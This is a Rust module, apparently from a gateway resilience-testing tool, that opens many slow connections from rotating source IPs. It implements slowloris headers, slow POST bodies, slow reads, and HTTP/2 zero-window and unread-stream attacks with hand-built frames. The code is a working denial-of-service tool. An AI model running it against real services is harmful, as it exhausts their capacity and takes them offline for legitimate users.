//! Connections that are slow on purpose.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering::Relaxed};
use std::time::Duration;

use clap::ValueEnum;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

/// How often a slow connection sends a byte.
const PACE: Duration = Duration::from_secs(2);

/// How many connect at once.
const ABREAST: usize = 200;

/// In what they are slow.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    /// A head that comes byte by byte.
    Head,
    /// A body that comes byte by byte.
    Body,
    /// An answer that is not read.
    Read,
    /// An HTTP/2 stream whose window is shut.
    Window,
    /// HTTP/2 with open windows and 100 streams, whose responses are not read from the socket.
    Unread,
}

/// The streams of a connection of [`Kind::Unread`].
const STREAMS: usize = 100;

impl Kind {
    /// Returns the number of connections that have as many requests as `connections` of the other kinds.
    pub fn connections(self, connections: usize) -> usize {
        if matches!(self, Self::Unread) { connections.div_ceil(STREAMS) } else { connections }
    }
}

/// All of them, until it is stopped.
#[derive(Debug)]
pub struct Attack {
    tasks: JoinSet<()>,
    counts: Arc<Counts>,
}

#[derive(Debug, Default)]
struct Counts {
    tried: AtomicUsize,
    open: AtomicUsize,
    ended: AtomicUsize,
}

impl Attack {
    /// Opens so many connections, from these addresses in turn; returns when all have been tried.
    pub async fn start(kind: Kind, gateway: SocketAddr, from: &[IpAddr], connections: usize) -> Self {
        let (mut tasks, counts) = (JoinSet::new(), Arc::<Counts>::default());
        for (index, address) in from.iter().cycle().take(connections).enumerate() {
            while index >= counts.tried.load(Relaxed) + ABREAST {
                sleep(Duration::from_millis(1)).await;
            }
            tasks.spawn(hold(kind, gateway, *address, Arc::clone(&counts)));
        }
        while counts.tried.load(Relaxed) < connections {
            sleep(Duration::from_millis(10)).await;
        }
        Self { tasks, counts }
    }

    /// How many were open, and how many had been refused or ended.
    pub fn stop(mut self) -> (usize, usize) {
        let counts = (self.counts.open.load(Relaxed), self.counts.ended.load(Relaxed));
        self.tasks.abort_all();
        counts
    }
}

async fn hold(kind: Kind, gateway: SocketAddr, from: IpAddr, counts: Arc<Counts>) {
    let connected = timeout(Duration::from_secs(5), connect(gateway, from)).await;
    counts.tried.fetch_add(1, Relaxed);
    if let Ok(Ok(stream)) = connected {
        counts.open.fetch_add(1, Relaxed);
        _ = drag(kind, stream).await;
        counts.open.fetch_sub(1, Relaxed);
    }
    counts.ended.fetch_add(1, Relaxed);
}

async fn connect(gateway: SocketAddr, from: IpAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    // So that little of an answer fits.
    socket.set_recv_buffer_size(4096)?;
    socket.bind((from, 0).into())?;
    socket.connect(gateway).await
}

/// Until the other side has had enough of it.
async fn drag(kind: Kind, mut stream: TcpStream) -> io::Result<()> {
    match kind {
        Kind::Head => stream.write_all(b"GET / HTTP/1.1\r\nHost: a.example\r\nX-Slow: ").await?,
        Kind::Body => {
            let head = b"POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 1000000\r\n\r\n";
            stream.write_all(head).await?;
        }
        Kind::Read => stream.write_all(b"GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n").await?,
        Kind::Window => stream.write_all(&shut_window()).await?,
        Kind::Unread => stream.write_all(&open_windows()).await?,
    }
    let mut answer = [0; 256];
    loop {
        let drips = matches!(kind, Kind::Head | Kind::Body);
        tokio::select! {
            // One that reads nothing sees its end all the same, when it writes.
            read = stream.read(&mut answer), if !matches!(kind, Kind::Read | Kind::Unread) => {
                if read? == 0 || answer.starts_with(b"HTTP/1.1 503") {
                    return Ok(());
                }
            }
            () = sleep(PACE) => {
                let error = stream.take_error()?;
                error.map_or(Ok(()), Err)?;
                if drips {
                    stream.write_all(b"x").await?;
                }
            }
        }
    }
}

/// A preface, SETTINGS with a window of 0 for all streams, and a GET of `/large` (RFC 9113 sections 3.4 and 6).
fn shut_window() -> Vec<u8> {
    let mut bytes = preface(0);
    bytes.extend(get(1, "/large"));
    bytes
}

/// A preface, the largest windows for all streams and the connection, and GETs of `/short`.
fn open_windows() -> Vec<u8> {
    let mut bytes = preface(0x7fff_ffff);
    bytes.extend([0, 0, 4, 8, 0, 0, 0, 0, 0, 0x7f, 0xff, 0, 0]);
    for stream in (1_u32..).step_by(2).take(STREAMS) {
        bytes.extend(get(stream, "/short"));
    }
    bytes
}

/// A preface, and SETTINGS with this window for all streams.
fn preface(window: u32) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend([0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4]);
    bytes.extend(window.to_be_bytes());
    bytes
}

fn get(stream: u32, path: &str) -> Vec<u8> {
    // Indexed: GET, http; literal: the path and the authority.
    let mut fields = vec![0x82, 0x86];
    for (index, value) in [(0x04, path), (0x01, "a.example")] {
        fields.extend([index, u8::try_from(value.len()).unwrap_or_default()]);
        fields.extend(value.as_bytes());
    }
    let mut bytes = vec![0, 0, u8::try_from(fields.len()).unwrap_or_default(), 1, 5];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(fields);
    bytes
}
